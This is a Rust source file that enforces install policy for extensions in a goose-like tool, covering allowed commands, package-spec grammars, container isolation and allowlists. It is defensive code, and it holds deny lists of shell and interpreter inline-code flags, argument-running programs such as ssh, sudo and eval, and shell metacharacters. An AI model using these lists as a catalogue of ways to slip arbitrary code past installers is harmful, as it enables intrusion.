//! Trust policy for installing extensions: what a link, an import or an API call may run,
//! which variables it may name, and the administrator's allowlists. docs/install.md states the
//! rules and the grammar for users; this is the one place that decides them.
//!
//! Rules, each named in the refusal it produces (with the argument or variable at fault):
//! 1. **allowed commands** (deep links and imports only, as goose checks links): a stdio `cmd`
//!    must be exactly one of `DEFAULT_COMMANDS` — a bare name, never a path — or one the site
//!    added with `GOSLING_ALLOWED_COMMANDS=a,b` or `"allowed_commands"` in the allowlist file.
//! 2. **package spec** (every path): `npx`/`uvx`/`jbang` run a registry package, checked
//!    against a grammar; their own options are a closed list (`launcher_options`).
//! 3. **no inline code** (every path): the program that ends up running — the `cmd`, a
//!    launcher's package, a container's command or entrypoint — is not one that runs its
//!    arguments as a program (`RUNS_ARGUMENTS`), and an interpreter gets no inline-code argument
//!    before its script (`eval_arg`, glued and clustered forms included); no shell syntax.
//! 4. **container isolation** (every path): `docker`/`podman run` with a closed list of options,
//!    none that reaches the host (privileges, devices, host namespaces, mounts of `/` or homes).
//! 5. **environment** (every path, and again at activation): `check_env` with
//!    `config::disallowed_env_message`.
//! 6. **own secrets**: an install naming one of gosling's own secrets is saved disabled with the
//!    reason (`config::unresolved`); activating it is refused (`check_own_secrets`, here for
//!    `InstallSource::AddExtension` and again in the runtime).
//! 7. **allowlist** (every path, once configured): goose's `GOOSE_ALLOWLIST` (a URL serving YAML
//!    `extensions: [- id: …, command: …]`) and our local file (`GOSLING_ALLOWLIST_FILE`, else
//!    `<config dir>/allowlist.json` when it exists): `{"commands": [...], "urls": [URL
//!    prefixes], "allowed_commands": [names for rule 1]}`. A command entry approves a whole
//!    argv (`argv_matches`: equal word for word, or a trailing `*` word for any further
//!    arguments), never a string prefix; it is a gate on top of rules 1–6, never a way around
//!    them. Remote (`streamable_http`) extensions are checked against `urls` when the file has
//!    that key (`"urls": []` refuses all), otherwise they pass with a warning, as goose lets
//!    remote links through marked untrusted. `inline_python` runs arbitrary code, so it is
//!    refused whenever a command allowlist is configured. `GOOSE_ALLOWLIST_WARNING=true` turns
//!    allowlist refusals (only those) into warnings.
//!
//! Differences from goose, on purpose: an allowlist URL that cannot be fetched or parsed refuses
//! installs (goose allows everything); an empty remote list still allows everything, as in goose,
//! but a local file's lists mean exactly what they say; entries match the whole command line (goose
//! matches a string prefix); URL prefixes must end at a `/`, `?`, `#` or the end, so
//! `https://mcp.example.com` does not admit `https://mcp.example.com.evil.io`.
//!
//! `Policy::from_env` does the one network fetch (bounded: 15 s, 1 MiB); `check` is pure except
//! that rule 4 reads `HOME` to recognise the user's home directory in a mount.

use crate::config::Env;
use crate::extensions::config::{ConfigError, ExtensionConfig, Kind, Vars, SSE_UNSUPPORTED};
use crate::extensions::deeplink::printable;
use crate::util::in_words;
use serde_json::Value;
use std::fmt;
use std::path::{Path, PathBuf};
use std::time::Duration;

/// goose's allowed stdio commands for links, plus `gosling` (our own builtins).
pub const DEFAULT_COMMANDS: [&str; 9] =
    ["cu", "docker", "jbang", "npx", "uvx", "goosed", "npx.cmd", "i-ching-mcp-server", "gosling"];

/// Largest allowlist (remote YAML or local JSON) read, in bytes.
pub const MAX_ALLOWLIST_BYTES: u64 = 1 << 20;
const FETCH_TIMEOUT: Duration = Duration::from_secs(15);

/// How an extension is being added. Rule 1 (allowed commands) applies to `DeepLink` and
/// `Import`; every other rule applies to all.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum InstallSource {
    /// A `goose://extension?…` link (`gosling install`, the install route).
    DeepLink,
    /// `POST /config/extensions`.
    ConfigApi,
    /// `POST /agent/add_extension`.
    AddExtension,
    /// `gosling import` of an `mcpServers` file.
    Import,
    /// Other command-line paths that take a config the user wrote.
    Cli,
}

impl InstallSource {
    fn checks_commands(self) -> bool {
        match self {
            InstallSource::DeepLink | InstallSource::Import => true,
            InstallSource::ConfigApi | InstallSource::AddExtension | InstallSource::Cli => false,
        }
    }
}

/// A refused install, or a policy that cannot be set up.
#[derive(Debug)]
pub enum PolicyError {
    /// Rule 1: `cmd` is not an allowed command. Add it with `GOSLING_ALLOWED_COMMANDS`.
    CommandNotAllowed { cmd: String, allowed: Vec<String> },
    /// Rule 2: `arg` would make `cmd` run inline code; `why` names the exact pattern.
    InlineCode { cmd: String, arg: String, why: String },
    /// Rule 2: `arg` contains shell syntax (`pattern`).
    ShellMetacharacter { arg: String, pattern: &'static str },
    /// Rule 2: what a launcher (`npx`, `uvx`, `jbang`) or `docker run` is asked to run, `arg`,
    /// is not a registry package or image (a path, a URL, a bad spec); `why` gives the grammar.
    NotAPackage { cmd: String, arg: String, why: String },
    /// Rule 2: `arg` would give a container access to the host (privileges, host namespaces,
    /// devices, mounts of `/` or a home directory).
    ContainerReach { cmd: String, arg: String, why: String },
    /// Rule 3: an environment variable (in `field`: envs, env_keys or a header) that makes a
    /// program load code or fetch from elsewhere; `message` names its family.
    EnvRefused { field: String, name: String, message: String },
    /// Rule 4: an extension variable names one of gosling's own secrets or settings.
    ReservedSecret { field: String, name: String },
    /// Rule 3: `what` (a command line, URL or inline_python name) matches no entry of `lists`.
    NotAllowlisted { what: String, lists: String },
    /// Rule 3: `GOOSE_ALLOWLIST` is set but could not be loaded, so nothing can be checked.
    AllowlistUnavailable { url: String, detail: AllowlistError },
    /// The config itself is unusable (e.g. a disallowed environment variable).
    InvalidConfig(ConfigError),
    /// The policy's own setup is wrong: `origin` (an env var or file) and what is wrong with it.
    Setup { origin: String, detail: String },
}

impl fmt::Display for PolicyError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            PolicyError::CommandNotAllowed { cmd, allowed } => {
                let path = if cmd.contains('/') || cmd.contains('\\') { "; paths are not allowed, use the bare command name" } else { "" };
                write!(
                    f,
                    "policy: command `{}` refused by the allowed-commands rule (links and imports may run only: {}){path}; \
                     an administrator can allow more with GOSLING_ALLOWED_COMMANDS={} or \"allowed_commands\" in the allowlist file",
                    printable(cmd),
                    allowed.join(", "),
                    printable(cmd)
                )
            }
            PolicyError::InlineCode { cmd, arg, why } => write!(
                f,
                "policy: `{cmd} … {}` refused by the no-inline-code rule: {why}; install the server as a package and run it by name instead",
                printable(arg)
            ),
            PolicyError::ShellMetacharacter { arg, pattern } => write!(
                f,
                "policy: argument {:?} refused by the no-shell-syntax rule (it contains {pattern:?}); arguments are passed to the program as they are, remove the shell syntax",
                printable(arg)
            ),
            PolicyError::NotAllowlisted { what, lists } => write!(
                f,
                "policy: `{}` refused by the allowlist rule (not on {lists}); ask your administrator to add it, or set GOOSE_ALLOWLIST_WARNING=true to install with a warning",
                printable(what)
            ),
            PolicyError::AllowlistUnavailable { url, detail } => write!(
                f,
                "policy: refused by the allowlist rule: GOOSE_ALLOWLIST={url} could not be loaded ({detail}); installs are refused until it loads: fix the URL or unset GOOSE_ALLOWLIST"
            ),
            PolicyError::NotAPackage { cmd, arg, why } => write!(
                f,
                "policy: `{cmd} … {}` refused by the package-spec rule: {why}; see docs/install.md for the grammar",
                printable(arg)
            ),
            PolicyError::ContainerReach { cmd, arg, why } => write!(
                f,
                "policy: `{cmd} … {}` refused by the container-isolation rule: {why}; remove the option",
                printable(arg)
            ),
            PolicyError::EnvRefused { field, message, .. } => {
                write!(f, "policy: refused by the environment rule: {field}: {}", printable(message))
            }
            PolicyError::ReservedSecret { field, name } => write!(
                f,
                "policy: refused by the own-secrets rule: {}",
                crate::extensions::config::reserved_secret_message(&printable(name), field)
            ),
            PolicyError::InvalidConfig(e) => write!(f, "policy: {e}"),
            PolicyError::Setup { origin, detail } => write!(f, "policy: {origin}: {detail}"),
        }
    }
}

impl std::error::Error for PolicyError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        if let PolicyError::InvalidConfig(e) = self {
            Some(e)
        } else {
            None
        }
    }
}

#[derive(Debug, Clone)]
enum Remote {
    Loaded(Vec<String>),
    Unavailable(AllowlistError),
}

#[derive(Debug, Clone)]
struct LocalList {
    path: PathBuf,
    commands: Option<Vec<String>>,
    urls: Option<Vec<String>>,
}

/// The policy in force. Build it with `from_env` (or `permissive` when none is configured).
#[derive(Debug, Clone)]
pub struct Policy {
    allowed_commands: Vec<String>,
    remote: Option<(String, Remote)>,
    local: Option<LocalList>,
    warn_only: bool,
}

impl Policy {
    /// No allowlist, the default commands, refusals are refusals.
    pub fn permissive() -> Policy {
        Policy {
            allowed_commands: DEFAULT_COMMANDS.iter().map(|s| s.to_string()).collect(),
            remote: None,
            local: None,
            warn_only: false,
        }
    }

    /// Reads `GOSLING_ALLOWED_COMMANDS`, the local allowlist file and `GOOSE_ALLOWLIST` (fetched
    /// now; a failed fetch does not fail here but makes every check refuse, see the module
    /// header). Errors are setup mistakes: a bad env value, a missing or malformed file.
    pub fn from_env(env: &dyn Env, config_dir: &Path) -> Result<Policy, PolicyError> {
        let mut p = Policy::permissive();
        if let Some(list) = env.get("GOSLING_ALLOWED_COMMANDS") {
            for c in list.split(',').map(str::trim).filter(|c| !c.is_empty()) {
                if c.chars().any(|ch| ch.is_whitespace() || ch.is_control()) {
                    return Err(PolicyError::Setup {
                        origin: "GOSLING_ALLOWED_COMMANDS".into(),
                        detail: format!("{c:?} is not a command name (comma-separated names, no spaces)"),
                    });
                }
                p.allow_command(c);
            }
        }
        let (file, explicit) = match env.get("GOSLING_ALLOWLIST_FILE") {
            Some(f) => (PathBuf::from(f), true),
            None => (config_dir.join("allowlist.json"), false),
        };
        if explicit || file.exists() {
            let (local, extra) = read_local(&file)?;
            for c in extra {
                p.allow_command(&c);
            }
            p.local = Some(local);
        }
        if let Some(real_url) = env.get("GOOSE_ALLOWLIST") {
            // Shown in messages and logs without credentials or query (it may carry a token).
            let url = redact_url(&real_url);
            let state = match fetch(&real_url).and_then(|t| parse_allowlist_yaml(&t)) {
                Ok(list) => {
                    if list.is_empty() {
                        log::warn!("policy: GOOSE_ALLOWLIST={url} lists no commands; as in goose, an empty allowlist allows every command");
                    }
                    Remote::Loaded(list)
                }
                Err(detail) => {
                    log::warn!("policy: GOOSE_ALLOWLIST={url} could not be loaded: {detail}; installs will be refused");
                    Remote::Unavailable(detail)
                }
            };
            p.remote = Some((url, state));
        }
        p.warn_only = env
            .get("GOOSE_ALLOWLIST_WARNING")
            .is_some_and(|v| v.trim().eq_ignore_ascii_case("true") || v.trim() == "1");
        Ok(p)
    }

    fn allow_command(&mut self, c: &str) {
        if !self.allowed_commands.iter().any(|a| a == c) {
            self.allowed_commands.push(c.to_string());
        }
    }

    /// The commands rule 1 admits, defaults first.
    pub fn allowed_commands(&self) -> &[String] {
        &self.allowed_commands
    }

    /// Whether any allowlist (remote or local) is configured.
    pub fn has_allowlist(&self) -> bool {
        self.remote.is_some() || self.local.is_some()
    }

    /// Checks `config` added through `source`. Ok carries warnings to show the user (allowlist
    /// in warning mode, remote server not covered, legacy sse); Err says which rule refused.
    pub fn check(&self, config: &ExtensionConfig, source: InstallSource) -> Result<Vec<String>, PolicyError> {
        check_env(config)?;
        // Rule 6: installing saves such an extension disabled (`config::unresolved`), with the
        // reason; activating it is refused here.
        if source == InstallSource::AddExtension {
            check_own_secrets(config)?;
        }
        config.validate().map_err(PolicyError::InvalidConfig)?;
        let mut warnings = Vec::new();
        match &config.kind {
            Kind::Stdio { cmd, args, .. } => {
                if source.checks_commands() && !self.allowed_commands.iter().any(|a| a == cmd) {
                    return Err(PolicyError::CommandNotAllowed {
                        cmd: cmd.to_string(),
                        allowed: self.allowed_commands.clone(),
                    });
                }
                check_args(cmd, args)?;
                self.check_command_allowlist(cmd, args, &mut warnings)?;
            }
            Kind::StreamableHttp { uri, .. } => self.check_url_allowlist(uri, &mut warnings)?,
            Kind::InlinePython { .. } => {
                if self.has_command_list() {
                    let e = PolicyError::NotAllowlisted {
                        what: format!("inline_python extension {}", config.name),
                        lists: format!("{} (inline Python runs arbitrary code)", self.lists()),
                    };
                    self.refuse_or_warn(e, &mut warnings)?;
                }
            }
            Kind::Sse { .. } => warnings.push(format!("'{}': {SSE_UNSUPPORTED}", config.key())),
            Kind::Builtin { .. } | Kind::Platform { .. } | Kind::Frontend { .. } => {}
        }
        Ok(warnings)
    }

    fn has_command_list(&self) -> bool {
        self.remote.is_some() || self.local.as_ref().is_some_and(|l| l.commands.is_some())
    }

    fn lists(&self) -> String {
        let mut v = Vec::new();
        if let Some((url, _)) = &self.remote {
            v.push(format!("GOOSE_ALLOWLIST={url}"));
        }
        if let Some(l) = &self.local {
            v.push(l.path.display().to_string());
        }
        v.join(" or ")
    }

    fn refuse_or_warn(&self, e: PolicyError, warnings: &mut Vec<String>) -> Result<(), PolicyError> {
        if self.warn_only {
            log::warn!("{e} (installing anyway: GOOSE_ALLOWLIST_WARNING=true)");
            warnings.push(format!("{e} (installing anyway because GOOSE_ALLOWLIST_WARNING=true)"));
            Ok(())
        } else {
            Err(e)
        }
    }

    fn check_command_allowlist(
        &self,
        cmd: &str,
        args: &[String],
        warnings: &mut Vec<String>,
    ) -> Result<(), PolicyError> {
        let argv: Vec<&str> = std::iter::once(cmd).chain(args.iter().map(String::as_str)).collect();
        let line = argv.join(" ");
        let mut configured = false;
        let mut unavailable = None;
        if let Some((url, state)) = &self.remote {
            match state {
                Remote::Loaded(list) if list.is_empty() => {}
                Remote::Loaded(list) => {
                    configured = true;
                    if list.iter().any(|p| argv_matches(&argv, p)) {
                        return Ok(());
                    }
                }
                Remote::Unavailable(detail) => {
                    configured = true;
                    unavailable = Some(PolicyError::AllowlistUnavailable { url: url.clone(), detail: detail.clone() });
                }
            }
        }
        if let Some(LocalList { commands: Some(list), .. }) = &self.local {
            configured = true;
            if list.iter().any(|p| argv_matches(&argv, p)) {
                return Ok(());
            }
        }
        if !configured {
            return Ok(());
        }
        let e = unavailable.unwrap_or_else(|| PolicyError::NotAllowlisted { what: line, lists: self.lists() });
        self.refuse_or_warn(e, warnings)
    }

    fn check_url_allowlist(&self, uri: &str, warnings: &mut Vec<String>) -> Result<(), PolicyError> {
        match &self.local {
            Some(LocalList { urls: Some(list), path, .. }) => {
                if list.iter().any(|p| url_has_prefix(uri, p)) {
                    Ok(())
                } else {
                    self.refuse_or_warn(
                        PolicyError::NotAllowlisted {
                            what: uri.to_string(),
                            lists: format!("the urls of {}", path.display()),
                        },
                        warnings,
                    )
                }
            }
            _ => {
                if self.has_allowlist() {
                    warnings.push(format!(
                        "remote extension {} is not covered by the allowlist (it lists commands only); it is trusted as the server at that URL is",
                        printable(uri)
                    ));
                }
                Ok(())
            }
        }
    }
}

/// Whether the command line `argv` is approved by the allowlist `entry`: the entry's words
/// (split on spaces) must equal argv word for word; a last word `*` stands for any further
/// arguments (zero or more), which rule 2 has checked like any others. Never a string prefix:
/// `uvx mcp-server-fetch` does not approve `uvx mcp-server-fetch-x` nor extra arguments.
pub fn argv_matches(argv: &[&str], entry: &str) -> bool {
    let words: Vec<&str> = entry.split_whitespace().collect();
    match words.split_last() {
        Some((&"*", head)) => argv.len() >= head.len() && argv[..head.len()] == *head,
        Some(_) => argv == words.as_slice(),
        None => false,
    }
}

/// Rule 5 for every variable a config names: the `envs` and `env_keys` names and the
/// variables its headers refer to.
pub fn check_env(config: &ExtensionConfig) -> Result<(), PolicyError> {
    for (name, field) in named_vars(config, true) {
        if let Some(message) = crate::extensions::config::disallowed_env_message(&name) {
            return Err(PolicyError::EnvRefused { field: field.into(), name, message });
        }
    }
    Ok(())
}

/// Rule 6 for activation: no name the config reads from the secrets store (`env_keys`, header
/// variables) is one of gosling's own. A literal value in `envs` is the user's own text and is
/// not read from the store.
pub fn check_own_secrets(config: &ExtensionConfig) -> Result<(), PolicyError> {
    match named_vars(config, false).into_iter().find(|(n, _)| crate::extensions::config::is_reserved_secret(n)) {
        Some((name, field)) => Err(PolicyError::ReservedSecret { field: field.into(), name }),
        None => Ok(()),
    }
}

/// The variable names a config uses, each with the field it is in: the `envs` names (when
/// `with_envs`), the `env_keys`, then the variables its header values refer to.
fn named_vars(config: &ExtensionConfig, with_envs: bool) -> Vec<(String, &'static str)> {
    let Some(Vars { envs, env_keys, headers }) = config.vars() else { return Vec::new() };
    let envs = envs.keys().filter(|_| with_envs).map(|k| (k.clone(), "envs"));
    let keys = env_keys.iter().map(|k| (k.clone(), "env_keys"));
    let header_vars = headers.into_iter().flat_map(|h| h.values()).flat_map(|v| crate::wire::template::vars(v));
    envs.chain(keys).chain(header_vars.map(|var| (var, "headers"))).collect()
}

/// `url` without `user:password@` and without its query and fragment.
fn redact_url(url: &str) -> String {
    let (base, rest) = url.split_once(['?', '#']).map_or((url, false), |(b, _)| (b, true));
    let start = base.find("://").map_or(0, |i| i + 3);
    let auth_end = base[start..].find('/').map_or(base.len(), |i| start + i);
    let host = base[start..auth_end].rsplit('@').next().unwrap_or("");
    let creds = if base[start..auth_end].contains('@') { "…@" } else { "" };
    format!("{}{creds}{host}{}{}", &base[..start], &base[auth_end..], if rest { "?…" } else { "" })
}

/// Lower-cases the scheme and authority of a URL (paths stay case-sensitive).
fn normalize_origin(u: &str) -> String {
    let start = u.find("://").map_or(0, |i| i + 3);
    let end = u[start..].find(['/', '?', '#']).map_or(u.len(), |i| start + i);
    format!("{}{}", u[..end].to_ascii_lowercase(), &u[end..])
}

/// `uri` starts with `prefix`, and the prefix ends at a boundary (`/`, `?`, `#` or the end).
fn url_has_prefix(uri: &str, prefix: &str) -> bool {
    let (u, p) = (normalize_origin(uri), normalize_origin(prefix));
    if p.is_empty() || !u.starts_with(&p) {
        return false;
    }
    p.ends_with(['/', '?', '#']) || matches!(u[p.len()..].chars().next(), None | Some('/' | '?' | '#'))
}

/// Programs that run their arguments as a program (or a command line), whatever the flags:
/// never an MCP server. Launchers and package managers are here too, so a launcher cannot be
/// nested inside another (`npx npx -c …`, `uvx uv run python -c …`).
const RUNS_ARGUMENTS: &str = "awk gawk mawk nawk sed busybox toybox env xargs find \
    ipython xonsh jshell irb pry expect tclsh wish gdb lldb script eval exec source \
    time nice nohup timeout stdbuf setsid sudo doas su watch parallel \
    vim nvim emacs ex ed ssh make just \
    cross-env cross-env-shell shx concurrently npm-run-all run-p run-s nodemon env-cmd dotenv dotenv-cli \
    npx npm pnpm yarn uv uvx pip pipx poetry hatch jbang docker podman kubectl";

/// The words of `list`, comma-separated, for a message.
fn shown(list: &str) -> String {
    list.split_whitespace().collect::<Vec<_>>().join(", ")
}

/// Python modules that run their arguments as code or install what they name.
const PYTHON_EXEC_MODULES: &str = "timeit pdb cprofile profile trace code runpy pip ensurepip doctest idlelib";

/// Interpreters and shells, each with the arguments that make it run text from the command
/// line (or load code named on it) instead of a script or module of a package.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Interp {
    /// `-c`, or a short cluster containing `c` (`-lc`); fish's `-C`/`--init-command`.
    Shell,
    /// `-c`, also glued (`-c<code>`) and clustered (`-Ic`).
    Python,
    /// `-e`, `-p`, `-r` (also clustered: `-pe`), `--eval`, `--print`, `--import`, `--require`,
    /// `--loader`, `--experimental-loader`, `--env-file`, `--inspect*`.
    Node,
    /// deno `eval`/`repl`, `--eval`, a `data:`/`http(s):` module; bun `-e`/`-p`/`--preload`.
    DenoBun,
    /// perl `-e`/`-E`/`-M`/`-m`/`-d`/`-x`; ruby `-e`/`-r`; php `-r`/`-B`/`-R`/`-E`/`-d`; lua
    /// `-e`/`-l`; julia/R/osascript/groovy `-e`/`-E`/`-L`: any short cluster with those letters.
    Short(&'static str),
    /// pwsh/powershell: any `-c…`/`-e…`/`-f…`/`-en…` (abbreviations are accepted); cmd: `/c`, `/k`, `/r`.
    Windows,
    /// java: `-javaagent`, `-agentpath`, `-agentlib`, `-XX:OnError`, `-XX:OnOutOfMemoryError`.
    Java,
}

fn interp_of(prog: &str) -> Option<Interp> {
    let p = prog.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    Some(match p {
        "sh" | "bash" | "rbash" | "zsh" | "dash" | "ksh" | "mksh" | "pdksh" | "csh" | "tcsh" | "fish" | "ash"
        | "yash" | "posh" | "elvish" | "nu" => Interp::Shell,
        "python" | "pypy" | "py" => Interp::Python,
        "node" | "nodejs" | "tsx" | "ts-node" | "esno" | "babel-node" | "zx" | "coffee" | "sucrase-node"
        | "vite-node" | "jiti" => Interp::Node,
        "deno" | "bun" => Interp::DenoBun,
        "perl" => Interp::Short("eEMmdx"),
        "ruby" => Interp::Short("er"),
        "php" | "php-cgi" => Interp::Short("rBREd"),
        "lua" | "luajit" => Interp::Short("el"),
        "julia" => Interp::Short("eEL"),
        "r" | "rscript" | "osascript" | "groovy" => Interp::Short("e"),
        "pwsh" | "powershell" | "cmd" => Interp::Windows,
        "java" => Interp::Java,
        _ => return None,
    })
}

/// `/usr/bin/Python3.12.exe` → `python3.12`: the file name, lower-cased, without `.exe`/`.cmd`.
fn program_name(arg: &str) -> String {
    let base = arg.rsplit(['/', '\\']).next().unwrap_or(arg).to_ascii_lowercase();
    base.strip_suffix(".exe").or_else(|| base.strip_suffix(".cmd")).unwrap_or(&base).to_string()
}

/// Why `arg` makes `interp` run inline code, if it does.
fn eval_arg(interp: Interp, arg: &str) -> Option<String> {
    let lower = arg.to_ascii_lowercase();
    let opt = lower.split_once('=').map_or(lower.as_str(), |(o, _)| o);
    let short = arg.strip_prefix('-').filter(|b| !b.starts_with('-') && !b.is_empty());
    match interp {
        Interp::Shell => {
            if matches!(opt, "--command" | "--init-command" | "--rcfile" | "--init-file")
                || short.is_some_and(|b| b.contains('c') || b.contains('C'))
            {
                return Some("a shell given `-c` (or a cluster like `-lc`) runs the next argument as a command".into());
            }
        }
        Interp::Python => {
            if let Some(b) = short {
                for c in b.chars() {
                    match c {
                        'c' => return Some("python `-c` runs the text given with it (also glued: `-c<code>`)".into()),
                        'm' | 'W' | 'X' => break,
                        _ => {}
                    }
                }
            }
        }
        Interp::Node => {
            const LONG: &str = "--run --eval --print --import --require --loader --experimental-loader \
                --env-file --env-file-if-exists --inspect --inspect-brk --inspect-wait --inspect-port";
            if in_words(LONG, opt) || short.is_some_and(|b| b.contains(['e', 'p', 'r'])) {
                return Some(format!("node `{opt}` runs code given on the command line (or loads it from a URL)"));
            }
        }
        Interp::DenoBun => {
            if matches!(opt, "eval" | "repl" | "--eval" | "--eval-file" | "--print" | "--preload" | "--require")
                || short.is_some_and(|b| b.contains(['e', 'p', 'r']))
                || lower.contains("data:")
                || lower.starts_with("http:")
                || lower.starts_with("https:")
            {
                return Some(format!("`{opt}` runs code given on the command line or fetched from a URL"));
            }
        }
        Interp::Short(letters) => {
            if short.is_some_and(|b| b.chars().take_while(|c| c.is_ascii_alphabetic()).any(|c| letters.contains(c)))
                || matches!(opt, "--eval" | "--print" | "--load")
            {
                return Some(format!("`{opt}` makes the interpreter run code given on the command line"));
            }
        }
        Interp::Windows => {
            if ["-c", "-e", "-f", "/c", "/k", "/r", "--c", "--e"].iter().any(|p| opt.starts_with(p)) {
                return Some(format!("`{opt}` makes the shell run a command given on the command line"));
            }
        }
        Interp::Java => {
            if ["-javaagent", "-agentpath", "-agentlib", "-xx:onerror", "-xx:onoutofmemoryerror"]
                .iter()
                .any(|p| lower.starts_with(p))
            {
                return Some(format!("`{opt}` makes the JVM load or run code named on the command line"));
            }
        }
    }
    None
}

/// Where an interpreter's own options end: its script or module. Arguments after it belong to
/// the script (`python -m server -c config.yaml` is the server's `-c`).
fn ends_options(arg: &str) -> bool {
    let lower = arg.to_ascii_lowercase();
    const SCRIPTS: [&str; 12] =
        [".py", ".js", ".mjs", ".cjs", ".ts", ".sh", ".rb", ".pl", ".php", ".lua", ".jl", ".jar"];
    !arg.starts_with('-') && SCRIPTS.iter().any(|s| lower.ends_with(s))
}

/// The module python runs, when `arg` names it: after `-m` or a cluster ending in `m` (`-Im`),
/// or glued (`-mtimeit`, `-Imtimeit`).
fn python_module<'a>(arg: &'a str, prev: Option<&str>) -> Option<&'a str> {
    let cluster = |a: &str| a.strip_prefix('-').filter(|b| !b.starts_with('-') && !b.is_empty()).map(str::to_string);
    if prev.and_then(cluster).is_some_and(|b| b.ends_with('m') && b.chars().all(|c| c.is_ascii_alphabetic())) {
        return Some(arg);
    }
    let b = arg.strip_prefix('-').filter(|b| !b.starts_with('-'))?;
    let i = b.find('m')?;
    let rest = &b[i + 1..];
    (!rest.is_empty() && b[..i].chars().all(|c| c.is_ascii_alphabetic() && c != 'c')).then_some(rest)
}

/// A program (the stdio `cmd` itself, what a launcher runs, or a container's command) and its
/// arguments: refused when it runs its arguments as a program, or when it is an interpreter given
/// an inline-code argument before its script.
fn check_program(cmd: &str, prog: &str, args: &[String]) -> Result<(), PolicyError> {
    let name = program_name(prog);
    let refuse =
        |arg: &str, why: String| Err(PolicyError::InlineCode { cmd: cmd.to_string(), arg: arg.to_string(), why });
    if in_words(RUNS_ARGUMENTS, &name) {
        return refuse(prog, format!("`{name}` runs its arguments as a program; it is not an MCP server"));
    }
    if let Some(interp) = interp_of(&name) {
        let mut prev: Option<&str> = None;
        for a in args {
            if interp == Interp::Python {
                if let Some(module) = python_module(a, prev) {
                    if in_words(PYTHON_EXEC_MODULES, &module.to_ascii_lowercase()) {
                        return refuse(
                            a,
                            format!("`python -m {module}` runs its arguments as code or installs what they name"),
                        );
                    }
                    break; // the module's own arguments follow
                }
            }
            if a == "--" || ends_options(a) {
                break;
            }
            if let Some(why) = eval_arg(interp, a) {
                return refuse(a, why);
            }
            prev = Some(a);
        }
    }
    Ok(())
}

const METACHARS: [&str; 8] = ["$(", "`", ";", "&&", "||", "|", "\n", "\r"];

fn not_package(cmd: &str, arg: &str, why: impl Into<String>) -> PolicyError {
    PolicyError::NotAPackage { cmd: cmd.to_string(), arg: arg.to_string(), why: why.into() }
}

fn no_path_or_url(cmd: &str, spec: &str, what: &str) -> Result<(), PolicyError> {
    let lower = spec.to_ascii_lowercase();
    if spec.contains("://") || lower.starts_with("git+") || lower.starts_with("file:") || lower.starts_with("data:") {
        return Err(not_package(cmd, spec, format!("it is a URL; {what}")));
    }
    if spec.starts_with(['.', '/', '\\', '~']) || spec.contains('\\') || spec.contains("..") {
        return Err(not_package(cmd, spec, format!("it is a path; {what}")));
    }
    if lower.ends_with(".tgz") || lower.ends_with(".tar.gz") || lower.ends_with(".whl") || lower.ends_with(".zip") {
        return Err(not_package(cmd, spec, format!("it is an archive file; {what}")));
    }
    Ok(())
}

/// npm: `name`, `@scope/name`, each optionally `@version-or-tag`.
fn check_npm_spec(cmd: &str, spec: &str) -> Result<String, PolicyError> {
    const WHAT: &str = "npx runs a registry package: `name`, `@scope/name` or `name@version`";
    no_path_or_url(cmd, spec, WHAT)?;
    let part = |s: &str| {
        !s.is_empty()
            && s.len() <= 214
            && !s.starts_with(['.', '_', '-'])
            && s.bytes().all(|b| b.is_ascii_alphanumeric() || b"._~-".contains(&b))
    };
    let (name, version) = match spec.strip_prefix('@') {
        Some(rest) => {
            let (scope, tail) = rest.split_once('/').ok_or_else(|| not_package(cmd, spec, WHAT))?;
            let (n, v) = tail.split_once('@').map_or((tail, None), |(n, v)| (n, Some(v)));
            if !part(scope) || !part(n) {
                return Err(not_package(cmd, spec, WHAT));
            }
            (format!("@{scope}/{n}"), v)
        }
        None => {
            let (n, v) = spec.split_once('@').map_or((spec, None), |(n, v)| (n, Some(v)));
            if !part(n) {
                return Err(not_package(cmd, spec, WHAT));
            }
            (n.to_string(), v)
        }
    };
    if let Some(v) = version {
        if v.is_empty() || !v.bytes().all(|b| b.is_ascii_alphanumeric() || b"._^~<>=*+-".contains(&b)) {
            return Err(not_package(cmd, spec, format!("the version `{v}` is not a version or tag; {WHAT}")));
        }
    }
    Ok(name.rsplit('/').next().unwrap_or(&name).to_string())
}

/// PyPI (uvx): `name`, `name[extra,…]`, with `==1.0`, `>=1,<2`, `~=1.2` or `@1.0`/`@latest`.
fn check_pypi_spec(cmd: &str, spec: &str) -> Result<String, PolicyError> {
    const WHAT: &str = "uvx runs a registry package: `name`, `name==1.0`, `name[extra]` or `name@latest`";
    no_path_or_url(cmd, spec, WHAT)?;
    let end = spec.find(|c: char| !(c.is_ascii_alphanumeric() || "._-".contains(c))).unwrap_or(spec.len());
    let (name, mut rest) = spec.split_at(end);
    if name.is_empty() || !name.starts_with(|c: char| c.is_ascii_alphanumeric()) {
        return Err(not_package(cmd, spec, WHAT));
    }
    if let Some(r) = rest.strip_prefix('[') {
        let (extras, after) = r.split_once(']').ok_or_else(|| not_package(cmd, spec, WHAT))?;
        if !extras.bytes().all(|b| b.is_ascii_alphanumeric() || b"._-,".contains(&b)) {
            return Err(not_package(cmd, spec, WHAT));
        }
        rest = after;
    }
    let version = rest.strip_prefix('@').unwrap_or(rest);
    if !version.bytes().all(|b| b.is_ascii_alphanumeric() || b".*+!,<>=~_-".contains(&b)) {
        return Err(not_package(cmd, spec, format!("`{rest}` is not a version specifier; {WHAT}")));
    }
    Ok(name.to_string())
}

/// An executable a package provides (`--from`/`--package` name the package): a plain name.
fn check_bin_name(cmd: &str, bin: &str) -> Result<String, PolicyError> {
    no_path_or_url(cmd, bin, "name one of the package's executables")?;
    if bin.is_empty() || bin.starts_with('-') || !bin.bytes().all(|b| b.is_ascii_alphanumeric() || b"._-".contains(&b))
    {
        return Err(not_package(cmd, bin, "name one of the package's executables (letters, digits, `.`, `_`, `-`)"));
    }
    Ok(bin.to_string())
}

/// Splits the launcher's own options from the program. `flags` take no value, `valued` take one
/// (`--opt v` or `--opt=v`; `check` validates it), each `refused` row names options and why
/// (all space-separated words). Anything else before the program is refused.
fn launcher_options(
    cmd: &str,
    args: &[String],
    flags: &str,
    valued: &str,
    refused: &[(&str, &str)],
    mut check: impl FnMut(&str, &str) -> Result<(), PolicyError>,
) -> Result<usize, PolicyError> {
    let mut i = 0;
    while i < args.len() {
        let a = args[i].as_str();
